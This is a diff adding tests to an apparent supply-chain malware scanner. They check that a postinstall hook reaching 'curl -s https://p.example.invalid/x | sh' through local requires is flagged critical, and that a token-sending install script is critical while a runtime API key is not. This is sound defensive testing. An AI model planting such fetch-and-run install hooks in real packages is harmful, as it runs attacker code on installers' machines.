@@ -280,3 +280,28 @@ def test_shell_script_sending_a_key_is_critical() -> None:
     hook = next(p for p in SAMPLES["malicious-credential-access"]["positive"] if "run.sh" in p)
     finding = next(f for f in findings_for(hook) if f.rule_id == "malicious-credential-access")
     assert finding.severity is Severity.CRITICAL
+
+
+def test_install_hook_reaches_payload_through_local_files() -> None:
+    files: Files = {
+        "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup/i.js"}}',
+        "setup/i.js": "require('../lib/boot');\n",
+        "lib/boot.js": "module.exports = require('./run.js');\n",
+        "lib/run.js": "const cp = require('child_process');\ncp.exec('curl -s https://p.example.invalid/x | sh');\n",
+        "setup.py": "import helpers\nfrom setuptools import setup\nsetup(name='x')\n",
+        "helpers.py": "import subprocess\nsubprocess.run(['id'])\n",
+    }
+    found = findings_for(files)
+    run = next(f for f in found if f.rule_id == "malicious-download-exec")
+    assert run.location is not None and run.location.path == "lib/run.js"
+    assert "context:install" in run.tags and run.severity is Severity.CRITICAL
+    helper = next(f for f in found if f.location is not None and f.location.path == "helpers.py")
+    assert "context:install" in helper.tags
+
+
+def test_npm_token_sent_from_install_script_is_critical_but_sdk_key_at_runtime_is_not() -> None:
+    hook = next(p for p in SAMPLES["malicious-credential-access"]["positive"] if "i.js" in p)
+    finding = next(f for f in findings_for(hook) if f.rule_id == "malicious-credential-access")
+    assert finding.severity is Severity.CRITICAL
+    sdk = {"lib/client.js": "const https = require('https');\nhttps.get({headers: {auth: process.env.X_API_KEY}});\n"}
+    assert not [f for f in findings_for(sdk) if f.rule_id == "malicious-credential-access"]
